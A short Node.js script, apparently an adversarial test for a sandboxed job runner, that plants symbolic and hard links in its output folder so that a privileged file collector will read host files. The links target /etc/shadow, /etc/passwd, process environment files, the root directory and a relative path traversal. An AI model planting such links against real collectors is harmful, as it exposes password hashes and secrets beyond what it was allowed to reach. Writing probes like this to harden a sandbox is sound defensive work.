// Read a host file: leave links of every kind where the collector, which is privileged, will read.
'use strict';
const fs = require('node:fs');

fs.symlinkSync('/etc/shadow', 'shadow.txt');
fs.symlinkSync('/proc/1/environ', 'environ.txt');
fs.symlinkSync('/', 'rootdir', 'dir');
fs.symlinkSync('.', 'loop');
fs.symlinkSync('/proc/self/fd/0', 'stdin.txt', 'junction');
fs.mkdirSync('real');
fs.symlinkSync('../../etc/shadow', 'real/relative.txt');
const linked = [];
for (const source of ['/usr/bin/node', '/job/main.js', '/etc/passwd', '/proc/self/environ', '/dev/null']) {
  try {
    fs.linkSync(source, `hard${source.replaceAll('/', '_')}`);
    linked.push(source);
  } catch {}
}
fs.writeFileSync('one', 'x');
fs.linkSync('one', 'two');
fs.writeFileSync('honest.txt', 'honest');
console.log(`OUTCOME: hard links made: [${linked}]`);
